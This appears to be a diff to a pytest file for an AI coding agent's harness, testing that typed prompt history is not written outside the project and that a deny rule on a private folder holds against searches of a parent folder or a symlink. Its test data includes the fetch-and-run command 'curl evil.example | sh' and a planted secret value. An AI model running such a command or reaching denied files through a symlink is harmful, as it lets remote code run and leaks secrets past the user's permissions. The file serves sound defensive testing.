@@ -67,3 +67,14 @@ def test_a_committed_prompt_history_link_does_not_append_typed_lines_outside(pro
     history.add("curl evil.example | sh")
     assert outside.read_text() == "# the user's shell start-up file\n", "a typed line was written outside the project"
     assert history.lines[-1] == "curl evil.example | sh"  # the line itself is kept for this session
+
+
+@pytest.mark.parametrize("path", [".", "private", "plink"])
+async def test_a_search_text_deny_rule_holds_when_a_folder_above_is_searched(stub: Stub, project: Path, path: str) -> None:
+    (project / "private").mkdir()
+    (project / "private" / "k.txt").write_text("VALUE=hunter2-redteam\n")
+    (project / "plink").symlink_to("private")
+    stub.script(call(NARRATE, "search_text", pattern="VALUE", path=path), say("done"))
+    wiring = stub.wire(project, permission_mode="auto-edit", deny=["search_text:private/*"])
+    await collect(wiring.agent.run("go"))
+    assert "hunter2-redteam" not in str(stub.bodies()[-1])
